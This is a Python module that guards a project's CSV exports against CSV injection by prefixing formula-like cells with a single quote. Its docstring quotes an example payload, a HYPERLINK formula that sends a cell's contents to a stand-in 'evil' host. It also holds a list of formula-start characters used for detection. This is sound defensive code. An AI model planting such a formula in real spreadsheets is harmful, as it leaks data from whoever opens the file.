"""CSV files that a spreadsheet opens as text, never as formulas (CSV injection, OWASP).

A cell that starts with `=`, `+`, `-` or `@` is a formula to Excel, LibreOffice and Google Sheets,
and one that starts with a tab or carriage return is read as one after the spreadsheet trims it:
`=HYPERLINK("http://evil/?"&A1,"open")` typed as a reason, a hypothesis or a market id would run
on the researcher's machine when they open the export. Every CSV the project serves that carries
text someone typed (a participant, a market, a researcher) writes its rows through `writer` or
`dict_writer` here, which put a single quote before such a cell: the spreadsheet shows the text as
typed, with the quote, and runs nothing.

Numbers written as numbers (int, float, Decimal) are left as they are: a negative number is not a
formula, and a figure must stay a figure. A value of any other type is written as its text, checked
the same way. Data files for programs (a snapshot's JSONL and TSV) are not spreadsheet exports and
are not changed: they carry the corpus exactly as written.
"""

import csv
from collections.abc import Iterable, Mapping
from decimal import Decimal
from typing import Any, Protocol

# What a spreadsheet reads as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet shows it without running it: text that starts like a formula gets a
    leading single quote; numbers, booleans and None are left as they are."""
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeWriter:
    """csv.writer whose every cell, header included, goes through `safe_cell`."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._rows = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._rows.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """csv.DictWriter whose every value goes through `safe_cell`."""

    def __init__(self, out: _Writable, fieldnames: list[str], **options: Any) -> None:
        self._rows = csv.DictWriter(out, fieldnames=[safe_cell(name) for name in fieldnames], **options)

    def writeheader(self) -> Any:
        return self._rows.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self._rows.writerow({safe_cell(key): safe_cell(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **options: Any) -> SafeWriter:
    """csv.writer(out, **options) that writes no cell a spreadsheet would run."""
    return SafeWriter(out, **options)


def dict_writer(out: _Writable, fieldnames: list[str], **options: Any) -> SafeDictWriter:
    """csv.DictWriter(out, fieldnames, **options) that writes no cell a spreadsheet would run."""
    return SafeDictWriter(out, fieldnames, **options)
